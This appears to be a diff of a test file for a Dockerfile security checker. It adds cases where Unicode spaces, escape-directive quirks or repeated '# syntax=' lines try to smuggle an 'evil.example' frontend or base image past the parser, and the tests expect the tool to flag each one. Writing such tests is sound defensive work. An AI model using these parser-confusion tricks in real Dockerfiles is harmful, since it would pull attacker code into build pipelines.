@@ -335,8 +335,13 @@ describe('a file BuildKit could read otherwise than the parser is refused, never
     [
       'a check directive before the escape one (older frontends stop reading directives there)',
       '# check=skip=all\n# escape=`\nFROM alpine:3.20\nRUN echo hi `\nFROM evil.example/x:1\n',
-      /escape character to "\\\\" for Dockerfile frontends before the check directive and "`" for later ones/,
+      /read its parser directives differently: the escape character is "`" or "\\\\"/,
     ],
+    ...['\u0085', '\u00a0', '\v', '\u2003'].map((space): [string, string, RegExp] => [
+      `an escape directive after # and ${JSON.stringify(space)} (the newest frontends read it)`,
+      `#${space}escape=\`\nFROM alpine:3.20\nRUN echo hi \\\nFROM evil.example/x:1\n`,
+      /read its parser directives differently: the escape character is "`" or "\\\\"/,
+    ]),
     [
       'a meta ARG split at a no-break space',
       'ARG A=alpine:3.20\u00a0A=evil.example/x:1\nFROM ${A%%?A=*}\n',
@@ -430,7 +435,6 @@ describe('the frontend a Dockerfile names', () => {
     [
       '#!/usr/bin/env docker-build\n# syntax=index.docker.io/docker/dockerfile:1\nFROM alpine:3.20\n',
     ],
-    ['FROM alpine:3.20\n# syntax=evil.example/frontend (not a directive after an instruction)\n'],
   ])("Docker's own frontend, any version, or none: read %#", (text) => {
     expect(summary(parse(text))).toEqual([[expect.any(Number), undefined, 'image alpine:3.20']])
   })
@@ -453,6 +457,28 @@ describe('the frontend a Dockerfile names', () => {
     [
       '# escape=\\\n# syntax=user/dockerfile\nFROM alpine:3.20\n',
       /names the frontend user\/dockerfile/,
+    ],
+    // The newest frontends allow any Unicode space after #; older ones read every line.
+    ['#\u00a0syntax=evil.example/f:1\nFROM alpine:3.20\n', /names the frontend evil\.example\/f:1/],
+    [
+      '//\u3000syntax=evil.example/f:1\nFROM alpine:3.20\n',
+      /names the frontend evil\.example\/f:1/,
+    ],
+    [
+      '# syntax=docker/dockerfile:1\n# syntax=evil.example/f\nFROM alpine:3.20\n',
+      /names the frontend evil\.example\/f/,
+    ],
+    [
+      '# foo=bar\n# syntax=evil.example/f\nFROM alpine:3.20\n',
+      /names the frontend evil\.example\/f/,
+    ],
+    [
+      '# escape=\\\n#!/bin/x\n# syntax=evil.example/f\nFROM alpine:3.20\n',
+      /names the frontend evil\.example\/f/,
+    ],
+    [
+      'FROM alpine:3.20\n# syntax=evil.example/f (after an instruction)\n',
+      /names the frontend evil\.example\/f/,
     ],
     [
       '# syntax=UPPER/Case\nFROM alpine:3.20\n',
